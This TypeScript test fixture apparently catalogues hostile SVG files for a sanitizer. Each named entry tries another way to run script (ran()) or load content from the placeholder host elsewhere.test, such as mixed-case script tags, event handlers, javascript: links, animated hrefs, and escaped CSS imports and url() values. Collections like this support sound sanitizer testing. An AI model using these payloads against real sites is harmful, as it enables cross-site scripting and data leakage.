/**
 * Drawings that would run or load something where a browser shows them, each by another spelling: what runs calls
 * `ran()`, what loads is at elsewhere.test.
 */

const HEAD =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">';
const wrapped = (body: string) => `${HEAD}${body}</svg>`;
const RECT = '<rect id="r" width="50" height="50"/>';
const INNER = btoa(`${HEAD}<script>parent.ran()</script><rect id="x" width="9" height="9" onload="ran()"/></svg>`);

const BODIES: Readonly<Record<string, string>> = {
  "a script": "<script>ran()</script>",
  "a script in capitals": "<SCRIPT>ran()</SCRIPT>",
  "a script in both": "<sCrIpT>ran()</sCrIpT>",
  "a script elsewhere": '<script href="http://elsewhere.test/a.js"/>',
  "a script of XHTML": '<script xmlns="http://www.w3.org/1999/xhtml">ran()</script>',
  "a script under a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">ran()</s:script>',
  "a script under a prefix of XHTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">ran()</h:script>',
  "a script in CDATA": "<g><![CDATA[<script>ran()</script><img src=x onerror=ran()>]]></g>",
  "a script in a title": "<title><![CDATA[</title><script>ran()</script>]]></title>",
  "a handler": '<rect width="9" height="9" onload="ran()" onclick="ran()"/>',
  "a handler in capitals": '<image href="x" ONERROR="ran()"/><g ONLOAD="ran()"/>',
  "a handler under a prefix": '<g xmlns:on="http://www.w3.org/2000/svg" on:onload="ran()" on:load="ran()"/>',
  "a handler of focus": '<a href="#r" tabindex="0" autofocus="autofocus" onfocus="ran()">x</a>',
  "a handler of an animation": '<animate attributeName="x" dur="1s" onbegin="ran()"/>',
  HTML: '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="ran()"/></foreignObject>',
  "HTML in small letters":
    '<foreignobject><IFRAME srcdoc="&lt;script>parent.ran()&lt;/script>"></IFRAME></foreignobject>',
  "HTML without a wrapper": '<img src="x" onerror="ran()"/><iframe src="http://elsewhere.test/"/>',
  "HTML that ends SVG":
    '<p><img src="x" onerror="ran()"/></p><div><style>@import "http://elsewhere.test/"</style></div>',
  "HTML in a description": '<desc><img src="x" onerror="ran()"/></desc>',
  "an embedded page": '<embed src="http://elsewhere.test/"/><object data="http://elsewhere.test/"/>',
  "a video": '<video src="http://elsewhere.test/a" onerror="ran()"/><audio src="http://elsewhere.test/b"/>',
  "a title that ends in an attribute": '<title><a id="&lt;/title>&lt;img src=x onerror=ran()>">t</a></title>',
  "a style that ends in a text": "<style>&lt;/style>&lt;img src=x onerror=ran()></style>",
  "a style that ends in a string": "<style>rect{font-family:'&lt;/style>&lt;img src=x onerror=ran()>'}</style>",
  "a style that ends in an attribute": `<rect style="font-family:'&lt;/style>&lt;img src=x onerror=ran()>'" class="&quot;>&lt;img src=x onerror=ran()>"/>`,
  "a style with a comment of HTML": "<style>&lt;!--&lt;/style>&lt;img src=x onerror=ran()>--></style>",
  "a text that ends a text": "<text>&lt;/text>&lt;script>ran()&lt;/script></text>",
  "a table that ends SVG": "<table><tr><td><style>&lt;img src=x onerror=ran()></style></td></tr></table>",
  MathML: '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img src="x" onerror="ran()"/></mtext></math>',
  "a template":
    '<template><script>ran()</script></template><noscript><p title="&lt;/noscript>&lt;img src=x onerror=ran()>"/></noscript>',
  "a link with a script": '<a href="javascript:parent.ran()"><rect width="90" height="90"/></a>',
  "a link with blanks": '<a xlink:href=" java&#10;script:ran()"><rect width="90" height="90"/></a>',
  "a link in capitals": '<A HREF="JAVASCRIPT:ran()"><rect width="90" height="90"/></A>',
  "a link to data": '<a href="data:text/html,%3Cscript>parent.ran()%3C/script>"><rect width="90" height="90"/></a>',
  "two links":
    '<g xmlns:y="http://www.w3.org/1999/xlink"><a y:href="javascript:ran()" href="#r"><rect width="90" height="90"/></a></g>',
  "an animated link":
    '<a><animate attributeName="href" values="javascript:ran()" dur="1s" fill="freeze"/><rect width="90" height="90"/></a>',
  "an animated link in capitals":
    '<a id="l"><ANIMATE attributeName="href" to="javascript:ran()"/><rect width="90" height="90"/></a>',
  "a set link": '<a id="l"><set attributeName="xlink:href" to="javascript:ran()"/><rect width="90" height="90"/></a>',
  "a set link with blanks":
    '<a id="l"><set attributeName=" href " to="javascript:ran()"/><rect width="90" height="90"/></a>',
  "a set handler": '<g><set attributeName="onload" to="ran()"/><animate attributeName="onclick" values="ran()"/></g>',
  "a set picture":
    '<image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="http://elsewhere.test/a.png"/>',
  "an animated paint": `${RECT}<animate href="#r" attributeName="fill" values="url(http://elsewhere.test/a#b)" dur="1s"/>`,
  "a picture elsewhere": '<image href="http://elsewhere.test/a.png" width="9" height="9"/>',
  "a picture without a scheme": '<image xlink:href="//elsewhere.test/a.png" width="9" height="9"/>',
  "a picture of the page itself":
    '<image href="#" width="9" height="9"/><image href="#r" width="9" height="9"/><feImage href=""/>',
  "a picture with scripts": `<image href="data:image/svg+xml;base64,${INNER}" width="9" height="9"/>`,
  "pixels elsewhere in a filter": `<filter id="f"><feImage href="http://elsewhere.test/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  "a piece of another document":
    '<use href="http://elsewhere.test/a.svg#x"/><use xlink:href="//elsewhere.test/a.svg#x"/>',
  "a piece of data": `<use href="data:image/svg+xml;base64,${INNER}#x"/>`,
  "a base elsewhere": `<g xml:base="http://elsewhere.test/"><use href="a.svg#x"/><image href="a.png" width="9" height="9"/></g>`,
  "a paint elsewhere": '<rect width="9" height="9" fill="url(http://elsewhere.test/a.svg#b)"/>',
  "a paint in capitals": '<rect width="9" height="9" fill="URL(HTTP://elsewhere.test/a.svg#b)"/>',
  "a paint behind an escape": '<rect width="9" height="9" fill="u\\72l(http://elsewhere.test/a.svg#b)"/>',
  "a paint behind a comment":
    '<rect width="9" height="9" style="fill:url/**/(http://elsewhere.test/a.svg#b);fill:u/**/rl(http://elsewhere.test/)"/>',
  "a paint in quotes": `<rect width="9" height="9" style="fill: url( 'http://elsewhere.test/#b' )"/>`,
  "a filter elsewhere": '<rect width="9" height="9" filter="blur(1px) url(http://elsewhere.test/a.svg#b)"/>',
  "a mask elsewhere":
    '<rect width="9" height="9" style="mask-image:url(http://elsewhere.test/a.png);-webkit-mask:url(//elsewhere.test/b.png)"/>',
  "a cursor elsewhere": '<rect width="9" height="9" cursor="url(http://elsewhere.test/a.cur),auto"/>',
  "a background elsewhere":
    '<g style="background:url(http://elsewhere.test/a.png)"/><style>svg{background:#fff url(http://elsewhere.test/b.png)}</style>',
  "a background as a set of pictures": `<style>svg{background:image-set("http://elsewhere.test/a.png" 1x);background:-webkit-image-set(url(//elsewhere.test/b.png) 1x)}</style>`,
  "a background by other functions": `<style>svg{background:image("http://elsewhere.test/a.png");background:src("http://elsewhere.test/b.png");background:cross-fade(url(//elsewhere.test/c.png),red)}</style>`,
  "a background by a property of one's own":
    "<style>svg{--a:url(http://elsewhere.test/a.png);background:var(--a)}</style>",
  "an imported style sheet":
    '<style>@import "http://elsewhere.test/a.css";@import url(http://elsewhere.test/b.css);</style>',
  "an imported style sheet behind an escape":
    '<style>@\\69mport "http://elsewhere.test/a.css";@\\000049 MPORT url(//elsewhere.test/b.css);</style>',
  "an imported style sheet behind comments":
    '<style>/**/@import/**/"http://elsewhere.test/a.css";}@import "//elsewhere.test/b.css";</style>',
  "an imported style sheet after a bad string":
    '<style>rect{font-family:"a\n}@import "http://elsewhere.test/a.css";</style>',
  "a style sheet in pieces":
    '<style>@imp<g/>ort "http://elsewhere.test/a.css";<!-- -->@im<![CDATA[port]]> "http://elsewhere.test/b.css";</style>',
  "a style sheet of a link":
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://elsewhere.test/a.css"/><link rel="stylesheet" href="http://elsewhere.test/b.css"/>',
  "a font elsewhere":
    "<style>@font-face{font-family:a;src:url(http://elsewhere.test/a.woff)}text{font-family:a}</style><text>a</text>",
  "a font behind an escape":
    "<style>@f\\6fnt-face{font-family:a;src:url(http://elsewhere.test/a.woff)}text{font-family:a}</style><text y='9'>a</text>",
  "a font in a condition":
    "<style>@media all{@font-face{font-family:a;src:url(//elsewhere.test/a.woff)}text{font-family:a}}</style><text y='9'>a</text>",
  "a font of SVG":
    '<font><font-face font-family="a"><font-face-src><font-face-uri href="http://elsewhere.test/a.svg"/></font-face-src></font-face></font>',
  "a behavior":
    "<style>rect{behavior:url(http://elsewhere.test/a.htc);-moz-binding:url(//elsewhere.test/a.xml#b);width:expression(ran())}</style>",
  "a rule in a rule":
    "<style>svg{fill:red;&amp;:hover{background:url(http://elsewhere.test/a.png)}rect{background:url(//elsewhere.test/b.png)}}</style>",
  "a layer":
    '<style>@layer a{svg{background:url(//elsewhere.test/b.png)}}@layer b;@import "//elsewhere.test/c.css" layer(b);</style>',
  "an entity": "<text>&lt;script&gt;ran()&lt;/script&gt;</text><desc>&amp;lt;img src=x onerror=ran()&amp;gt;</desc>",
  "an event listener":
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">ran()</handler><ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
  "an inclusion": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://elsewhere.test/a.svg"/>',
  "a form":
    '<form action="http://elsewhere.test/"><input autofocus="" onfocus="ran()"/></form><isindex formaction="javascript:ran()"/>',
  "a page's settings":
    '<meta http-equiv="refresh" content="0;url=http://elsewhere.test/"/><base href="http://elsewhere.test/"/>',
};

const DOCUMENTS: Readonly<Record<string, string>> = {
  "a style sheet by instruction": `<?xml-stylesheet href="http://elsewhere.test/a.css"?>${wrapped(RECT)}`,
  "an entity with markup": `<!DOCTYPE svg [<!ENTITY a "javascript:ran()">]>${wrapped('<a href="&a;"><rect width="90" height="90"/></a>')}`,
  "a handler at the root": HEAD.replace("<svg", '<svg onload="ran()" ONLOAD="ran()"') + "</svg>",
  "a prefix for SVG":
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>ran()</s:script><img src="x" onerror="ran()"/></s:svg>',
  "no namespace": '<svg><script>ran()</script><image href="http://elsewhere.test/a.png"/></svg>',
};

/** Each by what it tries. */
export const HOSTILE: Readonly<Record<string, string>> = {
  ...Object.fromEntries(Object.entries(BODIES).map(([name, body]) => [name, wrapped(body)])),
  ...DOCUMENTS,
};
